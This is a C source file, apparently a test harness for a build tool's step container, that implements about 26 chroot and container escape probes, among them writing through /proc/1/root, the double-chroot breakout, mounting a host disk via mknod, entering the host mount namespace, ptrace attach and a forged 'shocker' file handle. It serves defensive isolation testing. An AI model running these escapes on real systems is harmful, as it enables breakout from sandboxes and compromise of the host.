/* Ways out of a chroot, each tried from inside a build step's container.
 *
 *   attacks NAME [ARG...]
 *
 * prints "escaped NAME: how" and exits 42 when the attack reached what it
 * was after, or "blocked NAME: why" and exits 0.  The test runs every
 * attack twice: in a plain chroot as root with every capability (where
 * each must escape, so the attack is known to be real) and in acigen's
 * step container (where each must be blocked).  Nothing here writes to
 * the host but the sentinel file the test owns.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/socket.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>
#if defined(__x86_64__) || defined(__i386__)
#include <sys/io.h>
#endif

static const char *name;

static int escaped(const char *how) { printf("escaped %s: %s\n", name, how); return 42; }
static int blocked(const char *why) { printf("blocked %s: %s\n", name, why); return 0; }
static int failed(const char *what) {
    char text[256];
    snprintf(text, sizeof text, "%s: %s", what, strerror(errno));
    return blocked(text);
}

/* Append a line to the host's sentinel through PATH: the proof of a write. */
static int write_through(const char *path) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) return -1;
    (void)!write(fd, "written from the image\n", 23);
    close(fd);
    return 0;
}

static int proc1root(const char *sentinel) {
    char path[4096];
    snprintf(path, sizeof path, "/proc/1/root%s", sentinel);
    return write_through(path) == 0 ? escaped(path) : failed(path);
}

static int procroots(const char *sentinel) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    char path[4096];
    if (!proc) return failed("/proc");
    while ((entry = readdir(proc)) != NULL) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, sentinel);
        if (write_through(path) == 0) { closedir(proc); return escaped(path); }
    }
    closedir(proc);
    return blocked("no process's root leads to the sentinel");
}

static int doublechroot(const char *sentinel) {
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail") != 0) return failed("chroot");
    for (int i = 0; i < 64; i++) (void)!chdir("..");
    if (chroot(".") != 0) return failed("chroot .");
    return write_through(sentinel) == 0 ? escaped("out through the cwd") : failed(sentinel);
}

static int mknod_mount(const char *major, const char *minor) {
    dev_t dev = makedev(atoi(major), atoi(minor));
    const char *types[] = {"ext4", "xfs", "btrfs", "ext3", "ext2", NULL};
    mkdir("/tmp/disk-mnt", 0700);
    if (mknod("/tmp/disk", S_IFBLK | 0600, dev) != 0) return failed("mknod");
    int fd = open("/tmp/disk", O_RDONLY);
    if (fd < 0) return failed("open the block device");
    close(fd);
    for (int i = 0; types[i]; i++)
        if (mount("/tmp/disk", "/tmp/disk-mnt", types[i], MS_NOSUID | MS_NODEV, NULL) == 0)
            return escaped("mounted the host's disk");
    return failed("mount the host's disk");
}

static int remount(const char *target) {
    if (mount(NULL, target, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        return escaped("remounted read-write");
    return failed(target);
}

/* /proc/sys writable, whether it was so already or a remount made it so */
static int proc_sys(void) {
    (void)!mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    int fd = open("/proc/sys/kernel/domainname", O_WRONLY);
    if (fd < 0) return failed("/proc/sys/kernel/domainname");
    close(fd);  /* never written */
    return escaped("/proc/sys is writable");
}

static int raw_socket(void) {
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) return failed("socket(AF_PACKET, SOCK_RAW)");
    close(fd);
    return escaped("a raw socket on the host's network");
}

static int signal_host(const char *pid) {
    if (kill(atoi(pid), 0) == 0) return escaped("can signal a host process");
    return failed("kill");
}

static int kernel_log(void) {
    char buffer[64];
    if (klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buffer, sizeof buffer) >= 0)
        return escaped("read the kernel log");
    return failed("syslog");
}

static int enter_mounts(const char *pid) {
    char path[256];
    snprintf(path, sizeof path, "/proc/%s/ns/mnt", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return failed(path);
    if (setns(fd, CLONE_NEWNS) != 0) return failed("setns");
    return escaped("in the host's mount namespace");
}

static int open_for_writing(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return failed(path);
    close(fd);  /* never written: opening it is the escape */
    return escaped("opened for writing");
}

static int load_module(void) {
    if (syscall(SYS_finit_module, -1, "", 0) == 0 || errno == EBADF)
        return escaped("the kernel would load a module");
    return failed("finit_module");
}

static int trace(const char *pid) {
    pid_t target = atoi(pid);
    if (ptrace(PTRACE_ATTACH, target, NULL, NULL) != 0) return failed("PTRACE_ATTACH");
    waitpid(target, NULL, __WALL);
    ptrace(PTRACE_DETACH, target, NULL, NULL);
    return escaped("attached to a host process");
}

static int by_handle(void) {
    struct { struct file_handle h; unsigned char bytes[128]; } handle;
    int mount_id, mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    handle.h.handle_bytes = sizeof handle.bytes;
    if (name_to_handle_at(AT_FDCWD, "/", &handle.h, &mount_id, 0) != 0) {
        /* a file system without handles (overlayfs): forge one for inode 2,
           the root of an ext4 file system, as the "shocker" exploit did */
        unsigned int forged[2] = {2, 0};
        handle.h.handle_bytes = sizeof forged;
        handle.h.handle_type = 1;
        memcpy(handle.h.f_handle, forged, sizeof forged);
    }
    int fd = open_by_handle_at(mount_fd, &handle.h, O_RDONLY);
    if (fd < 0) return failed("open_by_handle_at");
    close(fd);
    return escaped("opened a file by handle");
}

static int user_namespace(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) return escaped("every capability again");
    return failed("unshare(CLONE_NEWUSER)");
}

static int new_proc(const char *host_pid) {
    char path[256];
    mkdir("/tmp/proc", 0700);
    if (mount("proc", "/tmp/proc", "proc", 0, NULL) != 0) return failed("mount proc");
    snprintf(path, sizeof path, "/tmp/proc/%s", host_pid);
    return access(path, F_OK) == 0 ? escaped("sees the host's processes")
                                   : blocked("a new proc, without the host's processes");
}

static int keyring(void) {
    long id = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* user keyring */, 0);
    return id >= 0 ? escaped("reached root's keyring") : failed("keyctl");
}

static int bpf_map(void) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    int fd = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
    if (fd < 0) return failed("bpf");
    close(fd);
    return escaped("made a BPF map");
}

static int read_some(const char *path) {
    char byte;
    int fd = open(path, O_RDONLY);
    if (fd < 0) return failed(path);
    ssize_t got = read(fd, &byte, 1);
    close(fd);
    return got > 0 ? escaped("read the host's kernel state") : blocked("masked: nothing to read");
}

static int bind_root(void) {
    mkdir("/tmp/bind", 0700);
    if (mount("/", "/tmp/bind", NULL, MS_BIND, NULL) == 0) return escaped("bind-mounted /");
    return failed("mount --bind");
}

static int block_devices(void) {
    DIR *dev = opendir("/dev");
    struct dirent *entry;
    struct stat st;
    char path[512];
    if (!dev) return failed("/dev");
    while ((entry = readdir(dev)) != NULL) {
        snprintf(path, sizeof path, "/dev/%s", entry->d_name);
        if (lstat(path, &st) == 0 && S_ISBLK(st.st_mode)) { closedir(dev); return escaped(path); }
    }
    closedir(dev);
    return blocked("no block device in /dev");
}

static int sys_admin(void) {
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    if (!status) return failed("/proc/self/status");
    while (fgets(line, sizeof line, status)) {
        unsigned long long caps;
        if (sscanf(line, "CapEff: %llx", &caps) == 1) {
            fclose(status);
            return caps & (1ULL << 21) ? escaped("holds CAP_SYS_ADMIN")
                                       : blocked("no CAP_SYS_ADMIN");
        }
    }
    fclose(status);
    return blocked("no CapEff line");
}

static int io_ports(void) {
#if defined(__x86_64__) || defined(__i386__)
    if (iopl(3) == 0) return escaped("raw I/O ports");
    return failed("iopl");
#else
    return escaped("iopl: not on this machine");  /* never listed for other machines */
#endif
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: attacks NAME [ARG...]\n"); return 2; }
    name = argv[1];
    const char *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(name, "proc1root")) return proc1root(a);
    if (!strcmp(name, "procroots")) return procroots(a);
    if (!strcmp(name, "doublechroot")) return doublechroot(a);
    if (!strcmp(name, "mknod-mount")) return mknod_mount(a, b);
    if (!strcmp(name, "remount-proc-sys")) return proc_sys();
    if (!strcmp(name, "raw-socket")) return raw_socket();
    if (!strcmp(name, "signal-host")) return signal_host(a);
    if (!strcmp(name, "dmesg")) return kernel_log();
    if (!strcmp(name, "setns-host")) return enter_mounts(a);
    if (!strcmp(name, "remount-sys")) return remount("/sys");
    if (!strcmp(name, "sysrq-trigger")) return open_for_writing("/proc/sysrq-trigger");
    if (!strcmp(name, "core-pattern")) return open_for_writing("/proc/sys/kernel/core_pattern");
    if (!strcmp(name, "uevent-helper")) return open_for_writing("/sys/kernel/uevent_helper");
    if (!strcmp(name, "load-module")) return load_module();
    if (!strcmp(name, "ptrace")) return trace(a);
    if (!strcmp(name, "open-by-handle")) return by_handle();
    if (!strcmp(name, "user-namespace")) return user_namespace();
    if (!strcmp(name, "new-proc")) return new_proc(a);
    if (!strcmp(name, "keyctl")) return keyring();
    if (!strcmp(name, "bpf")) return bpf_map();
    if (!strcmp(name, "kcore")) return read_some("/proc/kcore");
    if (!strcmp(name, "timer-list")) return read_some("/proc/timer_list");
    if (!strcmp(name, "bind-root")) return bind_root();
    if (!strcmp(name, "block-devices")) return block_devices();
    if (!strcmp(name, "sys-admin")) return sys_admin();
    if (!strcmp(name, "iopl")) return io_ports();
    fprintf(stderr, "attacks: no attack named %s\n", name);
    return 2;
}
